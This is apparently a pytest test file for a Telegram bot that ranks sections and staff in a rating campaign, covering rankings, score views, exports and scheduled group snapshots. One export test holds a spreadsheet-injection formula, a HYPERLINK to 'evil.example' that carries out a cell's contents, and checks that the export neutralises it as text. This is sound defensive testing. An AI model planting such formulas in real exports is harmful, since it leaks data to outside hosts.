"""Scores in chat, through the in-process Bot API: /ranking, /myscore, /sectionscore, /awards, /export, and the
snapshots posted to the group (on schedule, by /snapshot, to a group that migrated)."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import openpyxl
import pytest
from sqlmodel import select

from bot import chart
from bot.config import Settings
from bot.context import Services
from bot.fake_api import StoredMessage
from bot.fake_users import FakeGroup, FakeUser, Sent
from bot.i18n import translator
from handlers.ranking import render_board
from jobs.outbox import deliver_due
from jobs.snapshots import due_slots, plan_snapshots
from storage import groups, scoring, snapshots, tasks
from storage.models import Member, Period, PeriodKind, Role, Snapshot, TargetKind
from storage.scoring import Board, Standing
from tests.conftest import ADMIN_ID, Bot
from tests.factories import make_member, make_section
from tests.test_scoring import JUNE, period_of, rate, raters, review


def services(bot: Bot) -> Services:
    return bot.app.bot_data["shuangyou.services"]  # type: ignore[no-any-return]


class Campaign:
    """Three sections, their people, a leader and an admin, and June's ratings: 办公室 first, then 市场科;
    质监站 has too few raters."""

    def __init__(self, bot: Bot) -> None:
        self.bot = bot

    async def build(self) -> Campaign:
        db = self.bot.db
        self.office, self.market, self.station = [
            await make_section(db, name) for name in ("办公室", "市场科", "质监站 <b>&")
        ]
        self.leader = await make_member(db, 501, "Lee Leader", role=Role.LEADER, section=self.office, language="en")
        self.head = await make_member(db, 502, "Hu Head", role=Role.HEAD, section=self.market, language="en")
        self.staff = await make_member(db, 503, "Sun Staff", section=self.market, language="en")
        self.star = await make_member(db, 504, "小王", section=self.office)
        self.admin = await make_member(db, ADMIN_ID, "Boss", role=Role.ADMIN, section=self.office, language="en")
        self.voters = await raters(db, 4)
        for voter, value in zip(self.voters, (5, 5, 4), strict=False):
            await rate(db, voter, self.office, value)
            await rate(db, voter, self.star, value)
        for voter in self.voters[:3]:
            await rate(db, voter, self.market, 3)
            await rate(db, voter, self.staff, 3)
        await rate(db, self.voters[3], self.station, 5)
        return self

    def user(self, member: Member) -> FakeUser:
        return self.bot.tg.private_user(member.display_name, user_id=member.telegram_id or 0, language="en")

    async def group(self, title: str = "双优活动群") -> FakeGroup:
        group = self.bot.tg.group(title)
        async with self.bot.db.transaction() as session:
            await groups.bind_campaign_group(session=session, chat_id=group.id, title=title, bound_by_id=None)
        return group


async def test_a_leader_reads_the_boards_by_kind_and_period(bot: Bot) -> None:
    campaign = await Campaign(bot).build()
    leader = campaign.user(campaign.leader)

    await leader.send("/ranking")

    text = leader.last_text()
    assert text.splitlines()[0] == "Sections — the 2026 campaign"
    assert text.splitlines()[1].startswith("1. 办公室 ")
    assert text.splitlines()[2].startswith("2. 市场科 ")
    # 质监站's one rater counts nowhere, so it is listed apart with the raters' own section (nobody rated it), by name
    assert "Not enough ratings yet: Raters " in text and text.endswith(", 质监站 <b>&")
    assert leader.buttons()[:2] == [["✓ Sections", "Individuals"], ["Month", "Quarter", "✓ Campaign"]]

    await leader.press("Individuals")
    text = leader.last_text()
    assert text.splitlines()[0] == "Individuals — the 2026 campaign"
    assert text.splitlines()[1].startswith("1. 小王 (办公室) ")
    assert text.splitlines()[2].startswith("2. Sun Staff (市场科) ")

    await leader.press("Month")
    assert leader.last_text().splitlines()[0] == "Individuals — 2026-06"
    assert leader.buttons()[2] == ["‹ 2026-05"]  # no boards of the future
    await leader.press("Quarter")
    assert leader.last_text().splitlines()[0] == "Individuals — 2026 Q2"
    await leader.press("Month")
    await leader.press("‹ 2026-05")
    assert leader.last_text().splitlines()[:2] == [
        "Individuals — 2026-05",
        "Nobody has enough ratings yet in this period.",
    ]


async def test_the_board_numbers_are_the_scoring_numbers(bot: Bot) -> None:
    campaign = await Campaign(bot).build()
    leader = campaign.user(campaign.leader)
    async with bot.db.transaction() as session:
        board = await scoring.compute_board(
            session=session,
            rules=services(bot).settings.scoring.rules(),
            period=await period_of(bot.db, JUNE, PeriodKind.CAMPAIGN),
            kind=TargetKind.SECTION,
        )

    await leader.send("/ranking")

    for standing, line in zip(board.ranked, leader.last_text().splitlines()[1:], strict=False):
        assert line.startswith(f"{standing.rank}. {standing.name} {scoring.shown(standing.score)}")
        assert f"{standing.raters} raters" in line


async def test_staff_see_sections_only_and_forged_buttons_change_nothing(bot: Bot) -> None:
    campaign = await Campaign(bot).build()
    staff = campaign.user(campaign.staff)

    await staff.send("/ranking")
    assert staff.buttons()[0] == ["Month", "Quarter", "✓ Campaign"]
    sent = await staff.press_data("rk:member:month:0:0", message=staff.last_message())
    assert sent.answer == "The ranking of individuals is for the campaign leaders."
    sent = await staff.press_data("rk:section:month:999999:0", message=staff.last_message())
    assert sent.answer == "There is no campaign period to show yet."
    sent = await staff.press_data("rk:section:campaign:1:0", message=staff.last_message())  # a month's id as campaign
    assert sent.answer is not None

    outsider = bot.tg.private_user("Nobody", language="en")
    await outsider.send("/ranking")
    assert outsider.last_text() == "/ranking is for registered members. Send /start to register."


async def test_ranking_in_the_group_shows_names_never_mentions(bot: Bot) -> None:
    campaign = await Campaign(bot).build()
    group = await campaign.group()
    leader = campaign.user(campaign.leader)
    group.add(leader)

    await leader.send("/ranking", chat=group)

    text = group.last_text()
    assert text.startswith("Sections — the 2026 campaign")
    assert "@" not in text and "tg://user" not in text


async def test_my_score_and_the_section_score(bot: Bot) -> None:
    campaign = await Campaign(bot).build()
    staff = campaign.user(campaign.staff)

    await staff.send("/myscore")

    text = staff.last_text()
    assert "Scores — 2026-06" in text
    assert "You" in text and "rank 2 of 2 · 3 raters" in text
    assert "市场科" in text and "By standard (1–5):" in text
    assert "Raters are not named." in text
    for voter in campaign.voters:
        assert voter.display_name not in text

    head = campaign.user(campaign.head)
    await head.send("/sectionscore")
    assert head.last_text().startswith("市场科 — 2026-06")
    sent = await head.press_data(f"ss:{campaign.office.id}:month:0", message=head.last_message())
    assert sent.answer == "Heads see their own section's score; leaders see every section's."

    leader = campaign.user(campaign.leader)
    await leader.send("/sectionscore")
    assert leader.last_text() == "Which section?"
    await leader.press("质监站 <b>&")
    assert (
        "Not enough ratings yet: a score is shown once at least 3 people of one rater group have rated."
        in leader.last_text()
    )
    await staff.send("/sectionscore")
    assert staff.last_text() == "You can't use /sectionscore. Send /help to see the commands you can use."


async def test_awards_name_the_winners_and_the_sections_with_problems(bot: Bot) -> None:
    campaign = await Campaign(bot).build()
    await review(bot.db, campaign.market, 1)  # a bad review, not rectified
    admin = campaign.user(campaign.admin)

    await admin.send("/awards")

    text = admin.last_text()
    lines = text.splitlines()
    assert lines[1].startswith("1. 办公室 ")
    assert "1. 小王 (办公室)" in text
    assert "• 市场科: 1 bad review not rectified" in text
    assert "Equal scores are decided by: more raters." in text


async def test_export_sends_a_workbook_whose_numbers_match_the_ranking(bot: Bot) -> None:
    campaign = await Campaign(bot).build()
    leader = campaign.user(campaign.leader)
    await leader.send("/ranking")
    shown = {line.split(" ")[1]: line.split(" ")[2] for line in leader.last_text().splitlines()[1:3]}

    sent = await leader.send("/export")

    files = {m.document_name: m.document for m in sent.messages if m.document is not None}
    assert set(files) == {"shuangyou-scores.xlsx", "shuangyou-scores.csv"}
    book = openpyxl.load_workbook(io.BytesIO(files["shuangyou-scores.xlsx"] or b""))
    sheet = book["Sections"]
    header = [cell.value for cell in sheet[1]]
    rows = [dict(zip(header, [cell.value for cell in row], strict=True)) for row in sheet.iter_rows(min_row=2)]
    june = {row["Name"]: row for row in rows if row["Period"] == "2026"}
    assert {name: float(june[name]["Score"]) for name in shown} == {name: float(score) for name, score in shown.items()}
    assert june["办公室"]["Raters"] == 3 and june["质监站 <b>&"]["Score"] is None
    assert june["市场科"]["Members"] == 2 and june["市场科"]["Members who rated"] == 0
    people = {row[1].value: row for row in book["Individuals"].iter_rows(min_row=2) if row[0].value == "2026-06"}
    assert "小王" in people
    csv_text = (files["shuangyou-scores.csv"] or b"").decode("utf-8-sig")
    assert csv_text.splitlines()[0].startswith("Kind,Period,Name,Section,Rank,Score")

    staff = campaign.user(campaign.staff)
    await staff.send("/export")
    assert staff.last_text() == "You can't use /export. Send /help to see the commands you can use."


async def test_export_writes_names_that_look_like_formulas_as_text(bot: Bot) -> None:
    campaign = await Campaign(bot).build()
    formula = '=HYPERLINK("http://evil.example/?x="&A1,"办公室")'
    trap = await make_section(bot.db, formula)
    for voter in campaign.voters[:3]:
        await rate(bot.db, voter, trap, 4)
    leader = campaign.user(campaign.leader)

    sent = await leader.send("/export")

    files = {m.document_name: m.document or b"" for m in sent.messages if m.document is not None}
    sheet = openpyxl.load_workbook(io.BytesIO(files["shuangyou-scores.xlsx"]))["Sections"]
    (cell,) = [row[1] for row in sheet.iter_rows(min_row=2) if "HYPERLINK" in str(row[1].value)][:1]
    assert cell.value == formula and cell.data_type == "s"
    rows = list(csv.reader(io.StringIO(files["shuangyou-scores.csv"].decode("utf-8-sig"))))
    assert any(row[2] == "'" + formula for row in rows)
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)


def exported_files(sent: Sent) -> dict[str, StoredMessage]:
    return {message.document_name or "": message for message in sent.messages if message.document is not None}


def exported_periods(file: StoredMessage) -> set[str]:
    """The periods of the rows of an exported workbook, both sheets."""
    book = openpyxl.load_workbook(io.BytesIO(file.document or b""))
    return {str(row[0]) for sheet in book.worksheets for row in sheet.iter_rows(min_row=2, values_only=True)}


async def test_export_alone_sends_every_period_so_far_and_says_how_to_ask_for_one(bot: Bot) -> None:
    campaign = await Campaign(bot).build()
    leader = campaign.user(campaign.leader)

    files = exported_files(await leader.send("/export"))

    assert set(files) == {"shuangyou-scores.xlsx", "shuangyou-scores.csv"}
    workbook = files["shuangyou-scores.xlsx"]
    assert exported_periods(workbook) == {"2026", "2026-Q2", "2026-05", "2026-06"}  # none of the future
    assert workbook.text == (
        "Scores of every section and member in every period so far: the campaign, its quarters and its months "
        "(2026-05 … 2026-06), per standard and rater group. For one period only, send /export 2026-06, "
        "/export 2026-Q2 or /export campaign."
    )


@pytest.mark.parametrize(
    ("typed", "code", "named"),
    [
        ("2026-06", "2026-06", "2026-06"),
        ("2026-6", "2026-06", "2026-06"),
        ("2026-q2", "2026-Q2", "2026 Q2"),
        ("campaign", "2026", "the 2026 campaign"),
        ("2026", "2026", "the 2026 campaign"),
    ],
)
async def test_export_of_one_period_holds_that_period_alone_and_says_which(
    bot: Bot, typed: str, code: str, named: str
) -> None:
    campaign = await Campaign(bot).build()
    leader = campaign.user(campaign.leader)

    files = exported_files(await leader.send(f"/export {typed}"))

    assert set(files) == {f"shuangyou-scores-{code}.xlsx", f"shuangyou-scores-{code}.csv"}
    workbook = files[f"shuangyou-scores-{code}.xlsx"]
    assert exported_periods(workbook) == {code}
    assert workbook.text == f"Scores of every section and member in {named}, per standard and rater group."
    table = (files[f"shuangyou-scores-{code}.csv"].document or b"").decode("utf-8-sig")
    assert {row[1] for row in csv.reader(io.StringIO(table))} == {"Period", code}


@pytest.mark.parametrize("typed", ["2026-13", "2026-00", "June", "<b>2026</b> & co", "2025-06", "2027", "2026-Q1"])
async def test_export_of_a_period_there_is_not_says_what_can_be_asked_and_sends_nothing(bot: Bot, typed: str) -> None:
    campaign = await Campaign(bot).build()
    leader = campaign.user(campaign.leader)

    sent = await leader.send(f"/export {typed}")

    assert exported_files(sent) == {}
    assert leader.last_text() == (
        f"There is no period “{typed}” to export. Send /export alone for every period so far, or /export with one "
        "period: a month (2026-05 … 2026-12), a quarter (2026-Q2 … 2026-Q4), a campaign's year (2026), or campaign "
        "for the latest campaign."
    )


async def test_export_of_a_period_not_begun_says_so_and_sends_nothing(bot: Bot) -> None:
    campaign = await Campaign(bot).build()
    leader = campaign.user(campaign.leader)

    sent = await leader.send("/export 2026-09")

    assert exported_files(sent) == {}
    assert leader.last_text() == "Nothing to export for 2026-09: it has not begun yet."


async def test_a_chinese_leader_is_told_in_chinese_which_periods_there_are(bot: Bot) -> None:
    campaign = await Campaign(bot).build()
    leader = bot.tg.private_user("王局长", user_id=601, language="zh-hans")
    await make_member(bot.db, leader.id, "王局长", role=Role.LEADER, section=campaign.office, language="zh_CN")

    await leader.send("/export 2026-13")
    assert leader.last_text() == (
        "没有可导出的周期“2026-13”。只发送 /export 导出截至目前的所有周期；或在 /export 后写一个周期：月份（2026-05 … "
        "2026-12）、季度（2026-Q2 … 2026-Q4）、活动年份（2026），或写 campaign 导出最近一次活动。"
    )
    files = exported_files(await leader.send("/export 2026-Q2"))
    assert files["shuangyou-scores-2026-Q2.xlsx"].text == "各科室和成员在2026 年第 2 季度的得分，按标准和评价群体分列。"


async def test_scheduled_snapshots_post_a_table_and_a_chart_once(bot: Bot) -> None:
    campaign = await Campaign(bot).build()
    group = await campaign.group()
    monday = dt.datetime(2026, 6, 15, 9, 5, tzinfo=services(bot).settings.tz)

    bot.clock.set(monday)
    assert await plan_snapshots(services(bot), bot.clock.now()) == 1
    assert await plan_snapshots(services(bot), bot.clock.now()) == 0  # the same slot: nothing twice
    await deliver_due(services(bot), bot.app.bot)

    posted = group.bot_messages()
    assert len(posted) == 2
    table = next(m for m in posted if m.photo is None)
    chart = next(m for m in posted if m.photo is not None)
    assert "排行榜" in table.text or "Leaderboard" in table.text
    assert "办公室" in table.text and "小王" in table.text
    assert chart.photo is not None and chart.photo.startswith(b"\x89PNG\r\n\x1a\n")

    # The order changes, then the month-end snapshot shows the movement.
    for voter in await raters(bot.db, 8):
        await rate(bot.db, voter, campaign.market, 5, day=dt.date(2026, 6, 20))
        await rate(bot.db, voter, campaign.office, 1, day=dt.date(2026, 6, 20))
    bot.clock.set(dt.datetime(2026, 6, 30, 17, 5, tzinfo=services(bot).settings.tz))
    assert await plan_snapshots(services(bot), bot.clock.now()) == 1
    await deliver_due(services(bot), bot.app.bot)
    table = [m for m in group.bot_messages() if m.photo is None][-1]
    assert "▲1" in table.text and "▼1" in table.text
    async with bot.db.transaction() as session:
        assert await snapshots.get_snapshot(session=session, slot="month_end:2026-06") is not None
        assert await snapshots.get_snapshot(session=session, slot="weekly:2026-06-15") is not None

    leader = campaign.user(campaign.leader)
    await leader.send("/ranking")
    assert "▲" not in leader.last_text()  # the last snapshot already has this order


async def test_an_admin_posts_a_snapshot_to_a_group_that_migrated(bot: Bot) -> None:
    campaign = await Campaign(bot).build()
    admin = campaign.user(campaign.admin)

    await admin.send("/snapshot")
    assert admin.last_text() == "No campaign group is bound yet: add me to the group and send /bindgroup there."

    group = await campaign.group()
    supergroup = bot.tg.group("双优活动群 (super)")
    bot.api.fail_next("sendMessage", migrate_to=supergroup.id, chat_id=group.id)
    await admin.send("/snapshot")

    assert admin.last_text() == "Posted the leaderboard to 双优活动群."
    assert any("办公室" in m.text for m in supergroup.bot_messages())
    async with bot.db.transaction() as session:
        bound = await groups.get_campaign_group(session=session)
        assert bound is not None and bound.chat_id == supergroup.id
        taken = (await session.exec(select(Snapshot))).all()
        assert len(taken) == 1 and taken[0].taken_by_id == campaign.admin.id

    staff = campaign.user(campaign.staff)
    await staff.send("/snapshot")
    assert staff.last_text() == "You can't use /snapshot. Send /help to see the commands you can use."


async def test_a_snapshot_with_no_scores_yet_is_its_text_alone(bot: Bot) -> None:
    await make_section(bot.db, "办公室")
    admin = bot.tg.private_user("Boss", user_id=ADMIN_ID)
    await admin.send("/start")
    group = bot.tg.group("双优活动群")
    async with bot.db.transaction() as session:
        await groups.bind_campaign_group(session=session, chat_id=group.id, title="双优活动群", bound_by_id=None)

    await admin.send("/snapshot")

    assert admin.last_text() == "Posted to 双优活动群: no scores yet, so the text alone, without a chart."
    (posted,) = group.bot_messages()
    assert posted.photo is None
    assert posted.text.splitlines()[1:] == [
        "",
        "还没有得分：本期还没有人获得足够的评分。",
        "",
        "发送 /ranking 查看完整排行榜，发送 /rate 参与评分。",
    ]


async def test_an_edited_old_snapshot_command_posts_nothing_again(bot: Bot) -> None:
    campaign = await Campaign(bot).build()
    admin = campaign.user(campaign.admin)
    group = await campaign.group()
    await admin.send("/snapshot")
    posted = len(group.bot_messages())

    edited = await admin.edit_last("/snapshot now")

    assert edited.messages == [] and edited.edited == []
    assert len(group.bot_messages()) == posted
    async with bot.db.transaction() as session:
        assert len((await session.exec(select(Snapshot))).all()) == 1


async def test_no_period_kind_mixup_in_section_choices(bot: Bot) -> None:
    """A leader's section list opens each section at the current rating period."""
    campaign = await Campaign(bot).build()
    leader = campaign.user(campaign.leader)
    await leader.send("/sectionscore 办公室")
    assert leader.last_text().startswith("办公室 — 2026-06")
    assert "rank 1 of 2" in leader.last_text()
    month = await period_of(bot.db, JUNE, PeriodKind.MONTH)
    assert month.kind == PeriodKind.MONTH


async def test_without_a_cjk_font_the_table_goes_alone(bot: Bot, monkeypatch: pytest.MonkeyPatch) -> None:
    campaign = await Campaign(bot).build()
    group = await campaign.group()
    monkeypatch.setattr(chart, "KNOWN_FONTS", ())
    monkeypatch.setattr(chart, "FONT_DIR", Path("/nonexistent"))
    monkeypatch.setattr(chart, "_renderers", {})

    bot.clock.set(dt.datetime(2026, 6, 15, 9, 5, tzinfo=services(bot).settings.tz))
    await plan_snapshots(services(bot), bot.clock.now())
    await deliver_due(services(bot), bot.app.bot)

    posted = group.bot_messages()
    assert len(posted) == 1 and posted[0].photo is None and "办公室" in posted[0].text


async def test_a_chart_that_cannot_be_drawn_leaves_the_table_alone_and_logged(
    bot: Bot, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    campaign = await Campaign(bot).build()
    group = await campaign.group()
    broken = tmp_path / "broken.ttf"
    broken.write_bytes(b"\x00\x01\x00\x00" + b"not really a font" * 8)  # a font's first bytes, then nonsense
    font = services(bot).settings.snapshots.font_file
    monkeypatch.setattr(chart, "_renderers", {font: chart.ChartRenderer(str(broken))})

    bot.clock.set(dt.datetime(2026, 6, 15, 9, 5, tzinfo=services(bot).settings.tz))
    await plan_snapshots(services(bot), bot.clock.now())
    await deliver_due(services(bot), bot.app.bot)

    posted = group.bot_messages()
    assert len(posted) == 1 and posted[0].photo is None and "办公室" in posted[0].text
    (logged,) = bot.errors.records
    assert logged.getMessage().startswith("The leaderboard chart could not be drawn, so the table goes alone")
    bot.errors.records.clear()


def test_a_long_board_is_paged_and_the_unrated_come_last() -> None:
    period = Period(id=1, campaign_id=1, kind=PeriodKind.MONTH, starts_on=JUNE.replace(day=1), ends_on=JUNE)
    ranked = [
        Standing(TargetKind.SECTION, number, f"S{number:02}", score=90 - number, rank=number, enough=True)
        for number in range(1, 21)
    ]
    board = Board(period, TargetKind.SECTION, ranked, [Standing(TargetKind.SECTION, 99, "Quiet")])
    tr = translator("en")

    first, page, pages = render_board(tr, board, {1: 2, 2: 1}, 0)
    last, last_page, _ = render_board(tr, board, None, 5)

    assert (page, pages, last_page) == (0, 2, 1)
    assert first.splitlines()[1:3] == ["1. S01 <b>89.0</b> ▲1 · 0 raters", "2. S02 <b>88.0</b> ▼1 · 0 raters"]
    assert first.splitlines()[3].startswith("3. S03 <b>87.0</b> new")
    assert "Quiet" not in first
    assert last.splitlines()[1].startswith("16. S16") and last.endswith("Not enough ratings yet: Quiet")


async def test_a_rater_group_of_fewer_raters_than_the_minimum_counts_nowhere(bot: Bot) -> None:
    """Two ratings and four public reviews: the two colleagues' group is in no score, count or breakdown (the
    standards' means would be two people's), in the bot or the export."""
    campaign = await Campaign(bot).build()
    home = await make_section(bot.db, "信息科")
    head = await make_member(bot.db, 520, "Xu Head", role=Role.HEAD, section=home, language="en")
    for voter in campaign.voters[:2]:
        await rate(bot.db, voter, home, 4)
    for _ in range(4):  # six raters in all: published after the third and the sixth
        await review(bot.db, home, 5)
    user = campaign.user(head)

    await user.send("/sectionscore")

    text = user.last_text()
    assert "4 raters" in text and "Public 5.00 (4)" in text
    assert "By standard" not in text and "Internal" not in text
    leader = campaign.user(campaign.leader)
    sent = await leader.send("/export")
    book = openpyxl.load_workbook(io.BytesIO(next(m.document for m in sent.messages if m.document) or b""))
    header = [cell.value for cell in book["Sections"][1]]
    row = next(r for r in book["Sections"].iter_rows(min_row=2, values_only=True) if r[1] == "信息科")
    cells = dict(zip(header, row, strict=True))
    assert cells["Internal mean"] is None and not cells["Internal raters"] and cells["Public mean"] == 5
    assert cells["Optimise service"] is None


async def test_one_industry_rater_beside_three_colleagues_cannot_be_worked_out_from_the_score(bot: Bot) -> None:
    campaign = await Campaign(bot).build()
    home = await make_section(bot.db, "信息科")
    head = campaign.user(await make_member(bot.db, 520, "Xu Head", role=Role.HEAD, section=home, language="en"))
    for voter, value in zip(campaign.voters[:3], (4, 3, 5), strict=True):
        await rate(bot.db, voter, home, value)
    await head.send("/sectionscore")
    before = head.last_text()

    (outsider,) = await raters(bot.db, 1, Role.INDUSTRY)
    await rate(bot.db, outsider, home, 1)
    await head.send("/sectionscore")
    after = head.last_text()
    leader = campaign.user(campaign.leader)
    await leader.send("/ranking")

    assert after == before  # 4 × total − 3 × internal mean would give the industry rater's 1
    assert "3 raters" in after and "Industry" not in after
    assert "信息科" in leader.last_text()


async def test_the_group_sees_sections_only_and_other_groups_nothing(bot: Bot) -> None:
    campaign = await Campaign(bot).build()
    group = await campaign.group()
    leader = campaign.user(campaign.leader)
    group.add(leader)

    await leader.send("/ranking", chat=group)
    assert leader.buttons(chat=group)[0] == ["Month", "Quarter", "✓ Campaign"]
    sent = await leader.press_data("rk:member:campaign:0:0", message=leader.last_message(chat=group))
    assert sent.answer == "The ranking of individuals is not shown in groups. Ask me in private."

    elsewhere = bot.tg.group("Another group")
    elsewhere.add(leader)
    await leader.send("/ranking", chat=elsewhere)
    assert elsewhere.last_text() == "The leaderboard is shown only in the campaign group. Ask me in private."

    industry = await make_member(bot.db, 530, "Acme Travel", role=Role.INDUSTRY, language="en")
    rater = campaign.user(industry)
    await rater.send("/ranking")
    assert rater.last_text().startswith("Sections — the 2026 campaign")


async def test_a_closed_period_keeps_its_result(bot: Bot) -> None:
    """Overdue days count up to the period's end: what June's board said in July, it says in December."""
    campaign = await Campaign(bot).build()
    async with bot.db.transaction() as session:
        await tasks.create_task(
            session=session,
            section_id=campaign.market.id or 0,
            due_on=dt.date(2026, 6, 24),
            responsible_id=None,
            created_by_id=None,
            title="Late",
        )
    leader = campaign.user(campaign.leader)

    june = await period_of(bot.db, JUNE)

    async def june_line() -> str:
        await leader.send("/sectionscore 市场科")
        await leader.press_data(f"ss:{campaign.market.id}:month:{june.id}", message=leader.last_message())
        return "\n".join(line for line in leader.last_text().splitlines() if "Deducted" in line)

    bot.clock.set(dt.datetime(2026, 7, 2, 10, 0, tzinfo=services(bot).settings.tz))
    in_july = await june_line()
    bot.clock.set(dt.datetime(2026, 12, 1, 10, 0, tzinfo=services(bot).settings.tz))
    in_december = await june_line()

    assert in_july == in_december == "Deducted 2 points: 4 working days overdue."


def test_one_board_a_day_when_monday_is_the_last_working_day(settings: Settings) -> None:
    tz = settings.tz
    monday_morning = dt.datetime(2026, 11, 30, 9, 5, tzinfo=tz)
    monday_evening = dt.datetime(2026, 11, 30, 17, 5, tzinfo=tz)
    assert due_slots(settings, monday_morning) == []
    assert due_slots(settings, monday_evening) == ["month_end:2026-11"]
    assert due_slots(settings, dt.datetime(2026, 11, 23, 9, 5, tzinfo=tz)) == ["weekly:2026-11-23"]
